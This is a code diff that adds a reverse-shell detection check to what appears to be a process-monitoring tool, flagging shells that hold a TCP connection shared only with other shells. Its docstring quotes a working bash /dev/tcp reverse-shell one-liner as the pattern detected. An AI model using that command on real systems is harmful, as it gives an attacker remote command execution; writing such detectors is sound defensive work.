@@ -67,6 +67,7 @@ def signs(process: Process, host: Host, around: Surroundings) -> t.Iterator[Sign
         or _from_a_descriptor(process, task, targets, host)
         or _from_input(process, task, targets, host, around)
         or _deleted_script(process, task, targets, around)
+        or _with_a_connection_of_its_own(process, spoken, targets, host)
     )
     if found is not None:
         yield found
@@ -315,6 +316,33 @@ def _deleted_script(process: Process, task: Task, targets: t.Mapping[int, bytes]
         "interpreter_deleted_script",
         "%s runs a script from %s, which is gone" % (_name(process), printable(gone[:300])),
     )
+
+
+def _with_a_connection_of_its_own(
+    process: Process, spoken: programs.Language, targets: t.Mapping[int, bytes], host: Host
+) -> Sign | None:
+    """Return what a shell is that has a connection which nothing but shells has: it can read commands from that.
+
+    "exec 5<>/dev/tcp/HOST/PORT; while read line <&5; do eval $line >&5; done". What is left open by a program that
+    starts a shell is that program's as well.
+    """
+    if not programs.is_shell(spoken):
+        return None
+    held = set(targets.values())
+    for one in host.sockets_of(process):
+        name = b"socket:[%d]" % one.inode
+        if name not in held or one.remote is None or not one.protocol.startswith("tcp"):
+            continue
+        others = (other for other in host.processes.values() if any(file.target == name for file in other.files))
+        languages = (programs.language(other) for other in others)
+        if all(language is not None and programs.is_shell(language) for language in languages):
+            detail = "%s has a connection of its own with %s, port %d" % (
+                _name(process),
+                printable(one.remote[0]),
+                one.remote[1],
+            )
+            return Sign("piped_program_connected", detail, severity="low")
+    return None
 
 
 def _target(
